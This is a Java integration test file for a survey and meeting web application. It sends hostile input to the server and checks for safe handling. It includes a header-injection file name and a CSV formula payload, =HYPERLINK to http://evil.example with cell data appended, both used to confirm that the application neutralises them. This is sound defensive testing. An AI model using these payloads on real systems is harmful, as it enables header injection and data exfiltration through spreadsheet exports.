package org.barometer.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.net.CookieManager;
import java.net.URI;
import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * What anyone on the Internet can send, tried on the real server: malformed and oversized bodies,
 * numbers and dates out of range, bad ids in page addresses, a file name that tries to rewrite a
 * download's header, and a formula in free text that must not run when an analyst opens the export.
 */
@ExtendWith(ArquillianExtension.class)
class HostileInputIT {

  /** The test server's log, where a client's mistake may take a line, never a stack trace. */
  private static final Path LOG =
      Path.of("target/liberty/wlp/usr/servers/barometerIT/logs/messages.log");

  private static final List<String> MALFORMED =
      List.of("{\"token\":", "[]", "\"abc\"", "", "{\"answers\":\"s\"}", "{\"token\":[1]}");

  private static final HttpClient HTTP =
      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

  @Deployment(testable = false)
  static WebArchive deployment() {
    return BarometerDeployment.war();
  }

  @ArquillianResource URL base;

  @Test
  void everyPublicEndpointAnswersMalformedJsonWithAJsonMessage() throws Exception {
    long meeting = MeetingsITData.meeting(Api.organiser(base), "Frokostmøte", 10);
    List<String> endpoints =
        List.of(
            "/api/public/registrations/lookup",
            "/api/public/registrations/cancel",
            "/api/public/registrations/confirm",
            "/api/public/meetings/" + meeting + "/registrations",
            "/api/responses",
            "/api/responses/draft");
    long before = logLines();
    for (String endpoint : endpoints) {
      for (String body : MALFORMED) {
        Api.Reply reply = Api.anonymous(base).postJson(endpoint, body);
        String what = endpoint + " with " + body + ": " + reply;
        assertTrue(reply.status() == 400 || reply.status() == 422, what);
        assertTrue(reply.contentType().startsWith("application/json"), what);
        assertFalse(reply.json().getString("message").isBlank(), what);
      }
    }
    Api.Reply wrongShape =
        Api.anonymous(base).postJson("/api/responses", "{\"token\":\"t\",\"answers\":\"s\"}");
    assertEquals(400, wrongShape.status(), wrongShape.body());
    assertEquals("answers", wrongShape.json().getString("field"), wrongShape.body());
    int requests = endpoints.size() * MALFORMED.size() + 1;
    long written = logLines() - before;
    assertTrue(
        written <= requests, requests + " bad requests wrote " + written + " lines to the log");
  }

  @Test
  void staffBodiesRefusedInsideADomainRecordAreNamed() {
    Api organiser = Api.organiser(base);
    Api.Reply forum = organiser.postJson("/api/forums", "{}");
    assertEquals(422, forum.status(), forum.body());
    assertEquals("name", forum.json().getString("field"));

    long meeting = MeetingsITData.meeting(organiser, "Næringsfrokost", 10);
    Api.Reply walkIn = organiser.postJson("/api/meetings/" + meeting + "/walk-ins", "{}");
    assertEquals(422, walkIn.status(), walkIn.body());
    assertEquals("name", walkIn.json().getString("field"));
  }

  @Test
  void anUnknownMeetingAddressIsOneLineInTheLogNotAStackTrace() throws Exception {
    HTTP.send(get("/meetings/abc").build(), text()); // the first starts the page's servlet: logged
    long before = logLines();
    HttpResponse<String> page = HTTP.send(get("/meetings/abc").build(), text());
    assertEquals(404, page.statusCode());
    assertTrue(notFoundText(page.body()), page.body());
    long written = logLines() - before;
    assertTrue(written <= 1, "GET /meetings/abc wrote " + written + " lines to the log");
  }

  @Test
  void aPublicBodyOverOneMegabyteIsRefusedBeforeItIsRead() throws Exception {
    byte[] large = largeJson(2 * 1024 * 1024);
    HttpResponse<String> declared =
        HTTP.send(
            post("/api/public/registrations/lookup", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(large))
                .build(),
            text());
    assertEquals(413, declared.statusCode(), declared.body());
    assertTrue(declared.body().contains("larger than 1 MB"), declared.body());

    // No Content-Length: the body comes in chunks, and reading stops at the limit.
    HttpResponse<String> chunked =
        HTTP.send(
            post("/api/public/registrations/lookup", "application/json")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> stream(large)))
                .build(),
            text());
    assertEquals(413, chunked.statusCode(), chunked.body());
    assertTrue(chunked.headers().firstValue("Content-Type").orElse("").contains("json"));
    assertTrue(chunked.body().contains("larger than 1 MB"), chunked.body());
  }

  @Test
  void aPlanFileMayBeLargerThanAJsonBodyUpToItsOwnLimit() throws Exception {
    // 2 MB is over the 1 MB of JSON bodies and under the 8 MB of plan files: the plan is read, and
    // refused for what it says (no format line), not for its size.
    String plan = "# " + "x".repeat(2 * 1024 * 1024) + "\nid: big\n";
    Api.Reply reply = Api.analyst(base).postYaml("/api/plans?fileName=big.yaml", plan);
    assertEquals(422, reply.status(), reply.body());
    HttpResponse<String> tooLarge =
        HTTP.send(
            post("/api/plans?fileName=huge.yaml", "application/yaml")
                .header("Authorization", basic("analyst", "analyst-demo"))
                .POST(HttpRequest.BodyPublishers.ofByteArray(new byte[9 * 1024 * 1024]))
                .build(),
            text());
    assertEquals(413, tooLarge.statusCode(), tooLarge.body());
    assertTrue(tooLarge.body().contains("larger than 8 MB"), tooLarge.body());
  }

  @Test
  void numbersAndDatesOutOfRangeAreRefusedByNameNotNarrowed() {
    Api organiser = Api.organiser(base);
    long meeting = MeetingsITData.meeting(organiser, "Kapasitet", 10);
    Api.Reply capacity =
        organiser.putJson("/api/meetings/" + meeting + "/capacity", "{\"capacity\":99999999999}");
    assertEquals(422, capacity.status(), capacity.body());
    assertEquals("capacity", capacity.json().getString("field"));
    Api.Reply tooMany =
        organiser.putJson("/api/meetings/" + meeting + "/capacity", "{\"capacity\":100001}");
    assertEquals(422, tooMany.status(), tooMany.body());
    assertEquals("capacity", tooMany.json().getString("field"));
    assertEquals(
        10,
        organiser
            .get("/api/meetings/" + meeting)
            .json()
            .getJsonObject("meeting")
            .getInt("capacity"));

    long forum =
        organiser
            .postJson("/api/forums", "{\"name\":\"Råd\",\"organiser\":\"Næringsavdelingen\"}")
            .json()
            .getJsonNumber("id")
            .longValue();
    Api.Reply farFuture =
        organiser.postJson(
            "/api/forums/" + forum + "/meetings",
            "{\"title\":\"Langt fram\",\"start\":\"+999999-03-15T08:00\","
                + "\"end\":\"+999999-03-15T10:00\",\"place\":\"Rådhuset\",\"capacity\":10}");
    assertEquals(422, farFuture.status(), farFuture.body());
    assertEquals("start", farFuture.json().getString("field"));
    assertEquals(0, organiser.get("/api/forums/" + forum + "/meetings").jsonArray().size());

    Api analyst = Api.analyst(base);
    String survey = Surveys.uniqueCode("ranges");
    Surveys.draftCycle(analyst, survey, "2024");
    Api.Reply population =
        analyst.postJson(
            "/api/surveys/" + survey + "/cycles",
            "{\"label\":\"2025\",\"populationSize\":99999999999}");
    assertEquals(422, population.status(), population.body());
    assertEquals("populationSize", population.json().getString("field"));
    Api.Reply opens =
        analyst.postJson(
            "/api/surveys/" + survey + "/cycles",
            "{\"label\":\"2026\",\"opensOn\":\"+999999-01-01\"}");
    assertEquals(422, opens.status(), opens.body());
    assertEquals("opensOn", opens.json().getString("field"));
    Api.Reply stratum =
        analyst.postJson(
            "/api/surveys/" + survey + "/cycles",
            "{\"label\":\"2027\",\"strata\":[{\"industry\":\"C\",\"sizeClass\":\"5-19\","
                + "\"population\":4294967297}]}");
    assertEquals(422, stratum.status(), stratum.body());
    assertEquals("population", stratum.json().getString("field"));
  }

  @Test
  void aStaffPageWithABadIdIsTheFriendlyNotFoundPage() throws Exception {
    HttpClient staff = loggedIn("analyst", "analyst-demo");
    for (String address :
        List.of(
            "/staff/results/cycle.xhtml?id=abc",
            "/staff/results/compare.xhtml?before=x",
            "/staff/results/cycle.xhtml?id=999999",
            "/staff/surveys/cycle.xhtml?id=abc")) {
      HttpResponse<String> page = staff.send(get(address).build(), text());
      assertEquals(404, page.statusCode(), address);
      assertTrue(notFoundText(page.body()), address + ": " + page.body());
    }
  }

  @Test
  void aPlanFileNameCannotRewriteTheDownloadHeader() throws Exception {
    String name = "x.yaml\"; filename=\"evil.html";
    Api.Reply imported =
        Api.analyst(base)
            .postYaml(
                "/api/plans?fileName=" + URLEncoder.encode(name, StandardCharsets.UTF_8),
                PlansIT.PLAN.replace("it-drammen-health", "it-evil-name"));
    assertEquals(201, imported.status(), imported.body());
    HttpResponse<String> file =
        HTTP.send(
            get("/api/plans/it-evil-name/file")
                .header("Authorization", basic("analyst", "analyst-demo"))
                .build(),
            text());
    assertEquals(200, file.statusCode(), file.body());
    String disposition = file.headers().firstValue("Content-Disposition").orElseThrow();
    assertEquals(
        "attachment; filename=\"x.yaml__ filename=_evil.html\";"
            + " filename*=UTF-8''x.yaml%22%3B%20filename%3D%22evil.html",
        disposition);
  }

  @Test
  void aFormulaInAFreeTextAnswerIsTextInTheExport() throws Exception {
    Api analyst = Api.analyst(base);
    String survey = Surveys.uniqueCode("formula");
    // Exports need a closed cycle with the minimum group: two answers, minimum 2.
    long cycle = Surveys.openCycleWithRegister(analyst, survey, 2);
    String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    String answers =
        Surveys.COMPLETE_ANSWERS.replace(
            "\"Raskere byggesaker, takk\"", "\"" + formula.replace("\"", "\\\"") + "\"");
    List<String> tokens = Surveys.tokens(analyst, cycle);
    for (String body :
        List.of(
            Surveys.submission(tokens.get(0), answers),
            Surveys.submission(tokens.get(1), Surveys.COMPLETE_ANSWERS))) {
      Api.Reply sent = Api.anonymous(base).postJson("/api/responses", body);
      assertEquals(201, sent.status(), sent.body());
    }
    assertEquals(200, analyst.post("/api/cycles/" + cycle + "/close").status());

    Api.Reply texts = analyst.get("/api/cycles/" + cycle + "/answers/texts");
    assertEquals(200, texts.status(), texts.body());
    List<CSVRecord> rows =
        CSVFormat.RFC4180
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .build()
            .parse(new StringReader(texts.body()))
            .getRecords();
    assertTrue(
        rows.stream().anyMatch(row -> row.get("answer").equals("'" + formula)), texts.body());
    assertTrue(rows.stream().noneMatch(row -> row.get("answer").startsWith("=")), texts.body());
  }

  private static boolean notFoundText(String page) {
    return page.contains("Siden finnes ikke.")
        || page.contains("Sidan finns inte.")
        || page.contains("The page does not exist.");
  }

  /** A browser-like client logged in through the staff form login. */
  private HttpClient loggedIn(String user, String password) throws Exception {
    HttpClient client =
        HttpClient.newBuilder()
            .cookieHandler(new CookieManager())
            .followRedirects(HttpClient.Redirect.NEVER)
            .connectTimeout(Duration.ofSeconds(10))
            .build();
    client.send(get("/staff/index.xhtml").build(), text());
    String form =
        "j_username="
            + URLEncoder.encode(user, StandardCharsets.UTF_8)
            + "&j_password="
            + URLEncoder.encode(password, StandardCharsets.UTF_8);
    HttpResponse<String> login =
        client.send(
            post("/j_security_check", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(form))
                .build(),
            text());
    assertEquals(302, login.statusCode(), login.body());
    assertEquals(200, client.send(get("/staff/index.xhtml").build(), text()).statusCode());
    return client;
  }

  private HttpRequest.Builder get(String path) {
    return HttpRequest.newBuilder(uri(path)).timeout(Duration.ofSeconds(60)).GET();
  }

  private HttpRequest.Builder post(String path, String contentType) {
    return HttpRequest.newBuilder(uri(path))
        .timeout(Duration.ofSeconds(60))
        .header("Content-Type", contentType);
  }

  private URI uri(String path) {
    return URI.create(base.toString()).resolve(path.substring(1));
  }

  private static HttpResponse.BodyHandler<String> text() {
    return HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8);
  }

  private static String basic(String user, String password) {
    return "Basic "
        + Base64.getEncoder()
            .encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
  }

  /** A JSON object of about {@code size} bytes: a token and a long padding field. */
  private static byte[] largeJson(int size) {
    return ("{\"token\":\"t\",\"padding\":\"" + "a".repeat(size) + "\"}")
        .getBytes(StandardCharsets.UTF_8);
  }

  private static InputStream stream(byte[] bytes) {
    return new java.io.ByteArrayInputStream(bytes);
  }

  private static long logLines() throws IOException, InterruptedException {
    Thread.sleep(1000); // the log is written asynchronously
    try (var lines = Files.lines(LOG, StandardCharsets.UTF_8)) {
      return lines.count();
    }
  }
}
